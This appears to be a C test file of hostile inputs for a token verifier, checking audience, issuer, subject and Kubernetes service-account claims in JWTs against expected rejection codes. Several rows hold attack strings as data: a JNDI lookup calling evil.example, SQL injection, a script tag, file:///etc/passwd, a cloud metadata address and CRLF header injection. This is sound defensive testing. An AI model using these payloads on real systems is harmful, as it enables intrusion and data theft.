/* G: audience, issuer, subject and the claims of Kubernetes. */
#include "hostile.h"

static struct rely_slice with_aud(const char *json)
{
    return with_payload(payload_with("aud", json));
}

static struct rely_slice with_iss(const char *json)
{
    return with_payload(payload_with("iss", json));
}

static struct rely_slice with_sub(const char *json)
{
    return with_payload(payload_with("sub", json));
}

static struct rely_slice with_jti(const char *json)
{
    return with_payload(payload_with("jti", json));
}

/* "count|prefix": so many audiences, the right one last. */
static struct rely_slice with_many_audiences(const char *text)
{
    size_t count = (size_t)atoi(text), len = 0;
    char *list = (char *)mint_repeat('\0', 8 * count + 16).ptr;
    for (size_t i = 0; i < count - 1; i++)
        len += (size_t)sprintf(list + len, "%s\"a\"", i == 0 ? "" : ",");
    return with_aud(mint_print("[%s,\"" AUDIENCE "\"]", list));
}

/* An issuer, or subject, that begins rightly and goes on for so many bytes. */
static struct rely_slice with_long_iss(const char *len)
{
    return with_iss(mint_print("\"" ISSUER "/%s\"", mint_repeat('x', (size_t)atoi(len)).ptr));
}

static struct rely_slice with_long_sub(const char *len)
{
    return with_sub(mint_print("\"%s\"", mint_repeat('x', (size_t)atoi(len)).ptr));
}

static struct rely_slice with_emoji_sub(const char *count)
{
    const char *text = "";
    for (int i = atoi(count); i > 0; i--)
        text = mint_print("%s\xf0\x9f\x98\x80", text);
    return with_sub(mint_print("\"%s\"", text));
}

#define LEGACY_CLAIMS                                                                                                  \
    "\"kubernetes.io/serviceaccount/namespace\":\"team-a\","                                                           \
    "\"kubernetes.io/serviceaccount/secret.name\":\"builder-token\","                                                  \
    "\"kubernetes.io/serviceaccount/service-account.name\":\"builder\","                                               \
    "\"kubernetes.io/serviceaccount/service-account.uid\":\"7b1e2a52-6a55-4c07-9d57-7a3a3ac8f3ad\""

static const struct hostile_case cases[] = {
    ROW("G01", with_aud, "\"relyd\"", RELY_OK),
    ROW("G02", with_aud, "[\"a\",\"relyd\",\"b\"]", RELY_OK),
    ROW("G03", with_aud, "[\"relyd\",\"relyd\"]", RELY_OK),
    ROW("G04", with_aud, NULL, RELY_MISSING_CLAIM),
    ROW("G05", with_aud, "null", RELY_INVALID_CLAIM),
    ROW("G06", with_aud, "[]", RELY_INVALID_CLAIM),
    ROW("G07", with_aud, "\"\"", RELY_INVALID_CLAIM),
    ROW("G08", with_aud, "[\"\"]", RELY_INVALID_CLAIM),
    ROW("G09", with_aud, "[[\"relyd\"]]", RELY_INVALID_CLAIM),
    ROW("G10", with_aud, "{\"aud\":\"relyd\"}", RELY_INVALID_CLAIM),
    ROW("G11", with_aud, "1", RELY_INVALID_CLAIM),
    ROW("G12", with_aud, "[\"relyd\",1]", RELY_INVALID_CLAIM),
    ROW("G13", with_aud, "[\"relyd\",null]", RELY_INVALID_CLAIM),
    ROW("G14", with_aud, "\"other\"", RELY_AUDIENCE_MISMATCH),
    ROW("G15", with_aud, "\"RELYD\"", RELY_AUDIENCE_MISMATCH),
    ROW("G16", with_aud, "\"relyd \"", RELY_AUDIENCE_MISMATCH),
    ROW("G17", with_aud, "\"rely\"", RELY_AUDIENCE_MISMATCH),
    ROW("G18", with_aud, "\"relyd.example\"", RELY_AUDIENCE_MISMATCH),
    ROW("G19", with_aud, "\"relyd,other\"", RELY_AUDIENCE_MISMATCH),
    ROW("G20", with_aud, "\"relyd other\"", RELY_AUDIENCE_MISMATCH),
    ROW("G21", with_aud, "\"*\"", RELY_AUDIENCE_MISMATCH),
    ROW("G22", with_aud, "\"relyd\\u0000evil\"", RELY_MALFORMED_TOKEN),
    ROW("G23", with_aud, "\"evil\\u0000relyd\"", RELY_MALFORMED_TOKEN),
    ROW("G24", with_many_audiences, "10000", RELY_INVALID_CLAIM),
    ROW("G24", with_many_audiences, "10000", RELY_TOKEN_TOO_LARGE, .max_bytes = RELY_DEFAULT_token_max_bytes),
    ROW("G24", with_many_audiences, "1001", RELY_INVALID_CLAIM),
    ROW("G24", with_many_audiences, "1000", RELY_OK),
    ROW("G25", with_aud,
        "\"rely\xcc\x81"
        "d\"",
        RELY_AUDIENCE_MISMATCH),
    ROW("G26", with_aud, "\"\xef\xbd\x92\xef\xbd\x85\xef\xbd\x8c\xef\xbd\x99\xef\xbd\x84\"", RELY_AUDIENCE_MISMATCH),
    ROW("G27", with_iss, NULL, RELY_MISSING_CLAIM),
    ROW("G28", with_iss, "null", RELY_INVALID_CLAIM),
    ROW("G29", with_iss, "1", RELY_INVALID_CLAIM),
    ROW("G30", with_iss, "[\"" ISSUER "\"]", RELY_INVALID_CLAIM),
    ROW("G31", with_iss, "\"" ISSUER "/\"", RELY_UNKNOWN_ISSUER),
    ROW("G32", with_iss, "\"https://ISSUER.example\"", RELY_UNKNOWN_ISSUER),
    ROW("G33", with_iss, "\"" ISSUER ":443\"", RELY_UNKNOWN_ISSUER),
    ROW("G34", with_iss, "\"http://issuer.example\"", RELY_UNKNOWN_ISSUER),
    ROW("G35", with_iss, "\"" ISSUER "?x\"", RELY_UNKNOWN_ISSUER),
    ROW("G36", with_iss, "\"" ISSUER "#x\"", RELY_UNKNOWN_ISSUER),
    ROW("G37", with_iss, "\"https://a@issuer.example\"", RELY_UNKNOWN_ISSUER),
    ROW("G38", with_iss, "\"https://issuer%2Eexample\"", RELY_UNKNOWN_ISSUER),
    ROW("G39", with_iss, "\"" ISSUER "\\u0000.evil\"", RELY_MALFORMED_TOKEN),
    ROW("G40", with_iss, "\"" ISSUER "/x/..\"", RELY_UNKNOWN_ISSUER),
    ROW("G41", with_iss, "\"" OTHER_ISSUER "\"", RELY_BAD_SIGNATURE),
    ROW("G42", with_iss, "\"http://169.254.169.254/\"", RELY_UNKNOWN_ISSUER),
    ROW("G43", with_iss, "\"file:///etc/passwd\"", RELY_UNKNOWN_ISSUER),
    ROW("G44", with_iss, "\"' OR '1'='1\"", RELY_UNKNOWN_ISSUER),
    ROW("G45", with_iss, "\"${jndi:ldap://evil.example/a}\"", RELY_UNKNOWN_ISSUER),
    ROW("G46", with_long_iss, "1000000", RELY_TOKEN_TOO_LARGE),
    ROW("G46", with_long_iss, "40000", RELY_UNKNOWN_ISSUER),
    ROW("G47", with_payload, "{\"iss\":\"kubernetes/serviceaccount\",\"sub\":\"" SUBJECT "\"}", RELY_UNKNOWN_ISSUER),
    ROW("G48", with_payload, "{\"iss\":\"kubernetes/serviceaccount\",\"sub\":\"" SUBJECT "\"," LEGACY_CLAIMS "}",
        RELY_UNKNOWN_ISSUER),
    ROW("G48", with_payload, "{\"iss\":\"" ISSUER "\",\"sub\":\"" SUBJECT "\"," LEGACY_CLAIMS "}", RELY_MISSING_CLAIM),
    ROW("G49", with_sub, NULL, RELY_MISSING_CLAIM),
    ROW("G50", with_sub, "null", RELY_INVALID_CLAIM),
    ROW("G51", with_sub, "\"\"", RELY_INVALID_CLAIM),
    ROW("G52", with_sub, "1", RELY_INVALID_CLAIM),
    ROW("G53", with_sub, "[\"" SUBJECT "\"]", RELY_INVALID_CLAIM),
    ROW("G54", with_sub, "\"system:serviceaccount:team-b:builder\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G55", with_sub, "\"*\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G56", with_sub, "\"system:serviceaccount:team-a:*\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G57", with_sub, "\"system:serviceaccount:team-a:Builder\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G58", with_sub, "\"" SUBJECT ":x\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G58", with_sub, "\"system::serviceaccount:team-a:builder\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G59", with_sub, "\"" SUBJECT "\\u0000\"", RELY_MALFORMED_TOKEN),
    ROW("G60", with_sub, "\"" SUBJECT "\\u0000x\"", RELY_MALFORMED_TOKEN),
    ROW("G61", with_sub, "\"" SUBJECT " \"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G62", with_sub, "\"" SUBJECT "\\r\\nX-Admin: 1\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G63", with_sub, "\"" SUBJECT "\\n\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G64", with_sub, "\"system:serviceaccount:team-a:.*\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G65", with_sub, "\"x' OR '1'='1\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G66", with_sub, "\"<script>alert(1)</script>\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G67", with_sub, "\"" SUBJECT "\\ud800\"", RELY_MALFORMED_TOKEN),
    ROW("G68", with_sub, "\"system:serviceaccount:team-a:build\xd0\xb5r\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G69", with_sub, "\"system:masters\"", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G70", with_long_sub, "601", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G71", with_long_sub, "600", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G72", with_emoji_sub, "600", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G73", with_emoji_sub, "601", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G74", with_long_sub, "1000000", RELY_TOKEN_TOO_LARGE),
    ROW("G74", with_long_sub, "40000", RELY_NO_MATCHING_CREDENTIAL),
    ROW("G75", with_members,
        "\"kubernetes.io\":{\"namespace\":\"team-b\",\"serviceaccount\":{\"name\":\"builder\",\"uid\":\"u\"}}",
        RELY_INVALID_CLAIM),
    ROW("G75", with_members,
        "\"kubernetes.io\":{\"namespace\":\"team-a\",\"serviceaccount\":{\"name\":\"admin\",\"uid\":\"u\"}}",
        RELY_INVALID_CLAIM),
    ROW("G76", with_members, "\"kubernetes.io\":\"team-b\"", RELY_OK),
    ROW("G77", with_jti, "1", RELY_INVALID_CLAIM),
    ROW("G78", with_jti, NULL, RELY_OK),
    ROW("G79", with_members,
        "\"kubernetes.io\":{\"namespace\":\"team-a\",\"pod\":{\"name\":\"p\",\"uid\":\"u\"},"
        "\"serviceaccount\":{\"name\":\"builder\",\"uid\":\"u\"},\"warnafter\":1800003607}",
        RELY_OK),
    ROW("G80", with_members, "\"x\":\"\\u003cb\\u003e \\u0026 \\u2028\"", RELY_OK),
};

SECTION(hostile_g, 'G', 80, cases);
